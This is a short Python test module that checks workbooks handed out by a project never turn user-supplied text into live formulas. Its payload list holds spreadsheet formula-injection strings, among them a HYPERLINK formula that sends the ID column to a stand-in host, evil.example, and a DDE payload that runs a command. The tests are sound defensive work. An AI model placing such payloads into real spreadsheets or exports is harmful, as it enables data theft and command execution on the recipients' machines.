"""Checks on the workbooks we hand out: user text never becomes a live formula (issue 16, finding 3)."""

import io
import re
import zipfile

import openpyxl

# The payload of the security test: a member's name that, run as a formula, sends the ID column away.
HYPERLINK = '=HYPERLINK("http://evil.example/?id="&E2,"点击查看")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def formulas(data: bytes) -> list[str]:
    """Every formula stored in any sheet of the workbook (an <f> element)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [m.decode() for name in z.namelist() if name.startswith("xl/worksheets/")
                for m in re.findall(rb"<f>(.*?)</f>", z.read(name))]


def text_cells(data: bytes, text: str) -> list:
    """The cells holding `text` exactly, read back by openpyxl (formulas kept as formulas)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == text]


def assert_written_as_text(data: bytes, text: str = HYPERLINK) -> None:
    assert formulas(data) == []
    cells = text_cells(data, text)
    assert cells, f"{text!r} is not in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.coordinate, c.data_type) for c in cells]
